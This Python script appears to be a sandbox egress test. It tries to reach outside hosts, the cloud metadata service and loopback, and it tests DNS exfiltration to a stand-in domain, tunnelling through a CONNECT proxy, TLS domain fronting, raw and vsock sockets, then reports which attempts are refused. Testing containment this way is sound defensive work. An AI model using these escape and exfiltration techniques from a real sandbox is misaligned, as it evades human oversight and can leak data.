"""Tries ways out of the jail that go round the gate's rules, one line for each."""

import os
import socket
import ssl


def tcp(host, port):
    with socket.create_connection((host, port), timeout=5) as stream:
        stream.sendall(b"GET / HTTP/1.1\r\nHost: api.test\r\n\r\n")
        return stream.recv(16).startswith(b"HTTP/1.1 2")


def udp(host, port, data=b"x"):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(data, (host, port))
        return bool(sock.recv(512))


def connect(authority):
    with socket.create_connection(("127.0.0.1", 3128), timeout=5) as stream:
        stream.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
        return stream.recv(64).startswith(b"HTTP/1.1 200")


def tls(host, name):
    context = ssl.create_default_context()
    context.check_hostname = False
    with socket.create_connection((host, 443), timeout=10) as stream:
        with context.wrap_socket(stream, server_hostname=name) as wrapped:
            return bool(wrapped.version())


def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    return True


def vsock():
    socket.socket(40, socket.SOCK_STREAM).connect((2, 1))
    return True


ATTEMPTS = {
    "an address": lambda: tcp("1.1.1.1", 443),
    "another port": lambda: tcp("api.test", 22),
    "metadata": lambda: tcp("169.254.169.254", 443),
    "metadata over IPv6": lambda: tcp("fd00:ec2::254", 443),
    "an address of IPv6": lambda: tcp("2606:4700:4700::1111", 443),
    "the machine's loopback": lambda: tcp("127.0.0.1", 8420),
    "loopback at an open port": lambda: tcp("127.0.0.1", 443),
    "an unknown name": lambda: bool(socket.getaddrinfo("evil.test", 443)),
    "data in a name": lambda: bool(socket.getaddrinfo("c2VjcmV0.evil.test", 443)),
    "another name service": lambda: udp("8.8.8.8", 53),
    "a datagram": lambda: udp("1.1.1.1", 443),
    "a datagram of IPv6": lambda: udp("2606:4700:4700::1111", 53),
    "CONNECT to an address": lambda: connect("1.1.1.1:443"),
    "CONNECT to another name": lambda: connect("evil.test:443"),
    "CONNECT to loopback": lambda: connect("127.0.0.1:22"),
    "fronting": lambda: tls("api.test", "evil.test"),
    "a rebound name": lambda: tls("rebound.test", "rebound.test"),
    "a raw socket": raw,
    "a vsock": vsock,
}

for name, attempt in ATTEMPTS.items():
    try:
        done = attempt()
    except OSError:
        done = False
    print(f"{name}: {'REACHED' if done else 'refused'}", flush=True)
os._exit(0)
